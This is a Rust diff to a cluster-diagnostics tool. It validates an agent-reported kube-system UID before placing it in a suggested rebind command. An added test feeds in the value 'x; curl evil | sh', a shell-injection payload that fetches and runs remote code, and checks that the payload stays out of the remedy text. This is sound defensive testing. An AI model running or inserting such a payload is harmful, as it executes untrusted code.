@@ -6,6 +6,7 @@ use nabu_proto::admin_v1::{Cluster, GetVersionResponse};
 use super::found::{Certifier, Found, ends_soon};
 use super::versions::{self, UPGRADE_AGENT};
 use crate::nabuctl::view::text::{age, seconds, skew, timestamp};
+use crate::store::identity::is_kube_system_uid;
 
 const CHECK: &str = "cluster";
 /// Certificates of agents live that long if the hub does not say.
@@ -109,10 +110,15 @@ fn last_error(one: &Cluster, now: Timestamp) -> String {
 
 fn conflict(one: &Cluster) -> Found {
     let (id, uid) = (&one.cluster_id, &one.refused_kube_system_uid);
+    let to = if is_kube_system_uid(uid) {
+        format!(" --to {uid}")
+    } else {
+        String::new()
+    };
     let message =
         format!("another cluster (kube-system UID {uid}) came with the id {id}, and was refused");
     let remedy = format!(
-        "if it has taken the place of the first: nabuctl cluster rebind {id} --to {uid}; else give it an id of its own, there: \
+        "if it has taken the place of the first: nabuctl cluster rebind {id}{to}; else give it an id of its own, there: \
         {UPGRADE_AGENT} --set clusterId=ANOTHER"
     );
     Found::error(CHECK, message, remedy)
@@ -325,6 +331,19 @@ mod tests {
             assert_eq!((found.check, found.level), (check, level), "{found:?}");
             assert!(found.remedy.contains(words), "{found:?}");
         }
+    }
+
+    #[test]
+    fn no_command_has_what_an_agent_says_and_a_shell_would_run() {
+        let conflict = Cluster {
+            state: "Conflict".to_owned(),
+            refused_kube_system_uid: "x; curl evil | sh".to_owned(),
+            ..well()
+        };
+        let found = judge(conflict);
+        let remedy = &found[0].remedy;
+        assert!(remedy.contains("rebind prod-eu;"), "{remedy}");
+        assert!(!remedy.contains("curl"), "{remedy}");
     }
 
     #[test]
